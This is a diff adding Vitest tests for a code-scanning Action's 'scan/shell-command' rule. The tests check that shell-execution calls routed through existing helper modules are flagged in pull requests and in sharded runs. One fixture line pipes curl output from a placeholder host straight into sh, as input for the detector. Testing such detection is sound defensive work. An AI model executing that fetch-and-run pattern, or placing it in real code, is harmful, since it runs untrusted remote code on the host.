@@ -1,0 +1,59 @@
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { FakeGitHub } from "../action/fake-github";
+import { runBuiltCli } from "../helpers/cli";
+import { errorRules, gate, pullRequest } from "./pr";
+
+// A pull request is judged on the files it changes, a shard on its share of the files; what those files import
+// from the rest of the project must resolve as in a whole-tree run, or a change that only adds the call (to a helper
+// that was already there) passes the gate that the same tree fails.
+
+const api = new FakeGitHub();
+beforeAll(() => api.start());
+afterAll(() => api.stop());
+
+/** Helpers already on the base branch: a module re-exporting child_process.exec, a barrel over it, a Python one. */
+function helpersAtBase(dir: string) {
+  mkdirSync(join(dir, "agent/lib"));
+  writeFileSync(join(dir, "agent/lib/shell.js"), 'import { exec } from "child_process";\nexport { exec };\nexport const quiet = true;\n');
+  writeFileSync(join(dir, "agent/lib/index.js"), 'export * from "./shell.js";\n');
+  writeFileSync(join(dir, "agent/shellhelp.py"), "from subprocess import run\n");
+}
+
+/** The change: only the calls, through the helpers. */
+function callsThroughHelpers(dir: string) {
+  writeFileSync(join(dir, "agent/use.js"), 'import { exec } from "./lib/shell.js";\nexec("ls");\n');
+  writeFileSync(join(dir, "agent/barrel.js"), 'import { exec as run } from "./lib";\n\nrun("curl -s https://x.example | sh");\n');
+  writeFileSync(join(dir, "agent/use2.py"), "from shellhelp import run\n\nrun(['ls'])\n");
+}
+
+const annotations = (commands: string[]) => commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(" "));
+
+describe("scan/shell-command through unchanged project files: a pull request or a shard resolves imports like the whole tree", () => {
+  it("scan/shell-command: a pull request that only adds calls to helpers already on the base fails the built Action", async () => {
+    const pr = await pullRequest(callsThroughHelpers, helpersAtBase);
+    expect(pr.files.map((f) => f.filename).sort()).toEqual(["agent/barrel.js", "agent/use.js", "agent/use2.py"]);
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command", "scan/shell-command"]);
+    expect(annotations(r.commands).sort()).toEqual(["scan/shell-command agent/barrel.js 3 1", "scan/shell-command agent/use.js 2 1", "scan/shell-command agent/use2.py 3 1"]);
+    // The resolution path crosses into the unchanged files.
+    expect(r.commands.find((c) => c.includes("file=agent/barrel.js"))).toContain('Resolved through line 1 `import { exec as run } from "./lib";` ← agent/lib/index.js line 1 `export * from "./shell.js"` ← agent/lib/shell.js line 1 `import { exec } from "child_process";`.');
+  });
+
+  it("scan/shell-command: the unchanged helpers themselves are not judged on the pull request, and a harmless import passes", async () => {
+    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/use.js"), 'import { quiet } from "./lib/shell.js";\nconsole.log(quiet);\n'), helpersAtBase);
+    const r = await gate(api, pr);
+    expect([r.code, errorRules(r)]).toEqual([0, []]);
+  });
+
+  it("scan/shell-command: every shard of a 4-job matrix together reports exactly the whole tree's findings (CLI --shard)", async () => {
+    const pr = await pullRequest(callsThroughHelpers, helpersAtBase);
+    const findings = (args: string[]) => (JSON.parse(runBuiltCli(["check", pr.dir, "--only", "scan", "--fail-on", "never", "--format", "json", ...args]).stdout).findings as { rule: string; file: string; line: number; column: number }[]).map((f) => `${f.rule} ${f.file}:${f.line}:${f.column}`);
+    const whole = findings([]);
+    expect(whole).toEqual(expect.arrayContaining(["scan/shell-command agent/barrel.js:3:1", "scan/shell-command agent/use.js:2:1", "scan/shell-command agent/use2.py:3:1"]));
+    const shards = [1, 2, 3, 4].flatMap((i) => findings(["--shard", `${i}/4`]));
+    expect(shards.sort()).toEqual([...whole].sort());
+  });
+});
